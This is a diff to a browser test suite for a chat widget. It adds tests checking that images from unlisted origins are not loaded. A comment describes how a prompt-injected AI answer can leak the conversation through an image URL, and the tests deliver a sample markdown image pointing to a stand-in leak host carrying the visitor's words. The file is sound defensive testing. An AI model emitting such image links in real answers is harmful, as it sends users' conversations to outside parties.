@@ -242,9 +242,9 @@ async function clickEveryLink(page: Page) {
 // self-tests below see all three detectors fire well inside this window.
 const SETTLE_MS = 600;
 
-async function setup(page: Page, context: BrowserContext, serverUrl: string) {
+async function setup(page: Page, context: BrowserContext, serverUrl: string, before?: string) {
   const detector = armDetector(context, page);
-  await loadWidget(page, serverUrl);
+  await loadWidget(page, serverUrl, before ? { before } : {});
   await fence(context, page, serverUrl);
   await launcher(page).click();
   const baseline: Baseline = { pageUrl: page.url(), lightDom: (await dangerousElements(page)).lightDom };
@@ -412,8 +412,8 @@ test.describe('links and images', () => {
     expect(detector.hits).toEqual([]);
   });
 
-  test('http: images are not loaded; https images are lazy and load only after done', async ({ page, context, server }) => {
-    await setup(page, context, server.url);
+  test('http: images are not loaded; https images from a listed origin are lazy and load only after done', async ({ page, context, server }) => {
+    await setup(page, context, server.url, `window.BailingChat = { config: { images: ['https://images.example.test'] } }`);
     const imageRequests: { url: string; at: 'streaming' | 'done' }[] = [];
     let phase: 'streaming' | 'done' = 'streaming';
     // Registered after the fence, so it answers first for this host.
@@ -440,7 +440,7 @@ test.describe('links and images', () => {
   });
 
   test('lazy loading: an image far above the visible end of a long answer waits until scrolled to', async ({ page, context, server }) => {
-    await setup(page, context, server.url);
+    await setup(page, context, server.url, `window.BailingChat = { config: { images: ['https://images.example.test'] } }`);
     const requested: string[] = [];
     await context.route('https://images.example.test/**', (route) => route.fulfill({ status: 200, contentType: 'image/png', body: PNG }));
     context.on('request', (r) => {
@@ -456,20 +456,41 @@ test.describe('links and images', () => {
     await expect.poll(() => requested).toEqual(['https://images.example.test/bottom.png', 'https://images.example.test/top.png']);
   });
 
-  test('remoteImages:false in the preload shows every image as its alt text', async ({ page, context, server }) => {
-    const detector = armDetector(context, page);
-    await loadWidget(page, server.url, { before: `window.BailingChat = { config: { remoteImages: false } }` });
-    await fence(context, page, server.url);
-    await launcher(page).click();
-    const requested: string[] = [];
-    context.on('request', (r) => {
-      if (r.url().includes('images.example.test')) requested.push(r.url());
+  // A prompt-injected answer can carry the conversation in an image URL: by default no image loads
+  // but the hub's own, and a listed origin lets only that origin's images through.
+  for (const listed of [[], ['https://images.example.test']]) {
+    test(`an image from an origin not listed (${listed.length ? 'another origin listed' : 'none listed, the default'}) is its alt text and sends nothing`, async ({ page, context, server }) => {
+      await setup(page, context, server.url, `window.BailingChat = { config: { images: ${JSON.stringify(listed)} } }`);
+      const requested: string[] = [];
+      await context.route(/^https:\/\/(images|leak)\.example\.test\//, (route) => route.fulfill({ status: 200, contentType: 'image/png', body: PNG }));
+      context.on('request', (r) => {
+        if (/example\.test/.test(r.url())) requested.push(r.url());
+      });
+      // The control image is on a listed origin (when one is): its request is the event that shows
+      // images were being fetched, so the leak's absence after it is not a matter of timing.
+      const control = listed.length ? '![ok](https://images.example.test/ok.png)\n\n' : '';
+      await deliver(page, `${control}![x](https://leak.example.test/p.png?d=the+visitor+said+this)`);
+      const body = lastAssistant(page).locator('.bc-body');
+      await expect(body).toContainText('[image: x]');
+      await expect(body.locator('a')).toHaveCount(0);
+      if (listed.length) {
+        await expect.poll(() => requested).toEqual(['https://images.example.test/ok.png']);
+        await expect.poll(() => body.locator('img').evaluate((el: HTMLImageElement) => el.complete && el.naturalWidth)).toBe(1);
+      } else {
+        await expect(body.locator('img')).toHaveCount(0);
+      }
+      expect(requested.filter((url) => url.includes('leak.'))).toEqual([]);
     });
-    await deliver(page, '![secure](https://images.example.test/ok.png)');
-    await page.waitForTimeout(SETTLE_MS);
-    await expect(lastAssistant(page).locator('.bc-body img')).toHaveCount(0);
-    await expect(lastAssistant(page).locator('.bc-body')).toContainText('[image: secure]');
-    expect(requested).toEqual([]);
-    expect(detector.hits).toEqual([]);
+  }
+
+  test('the leak detector fires: with the leak origin listed, the same answer requests it', async ({ page, context, server }) => {
+    await setup(page, context, server.url, `window.BailingChat = { config: { images: ['https://leak.example.test'] } }`);
+    const requested: string[] = [];
+    await context.route('https://leak.example.test/**', (route) => route.fulfill({ status: 200, contentType: 'image/png', body: PNG }));
+    context.on('request', (r) => {
+      if (r.url().includes('leak.example.test')) requested.push(r.url());
+    });
+    await deliver(page, '![x](https://leak.example.test/p.png?d=the+visitor+said+this)');
+    await expect.poll(() => requested).toEqual(['https://leak.example.test/p.png?d=the+visitor+said+this']);
   });
 });
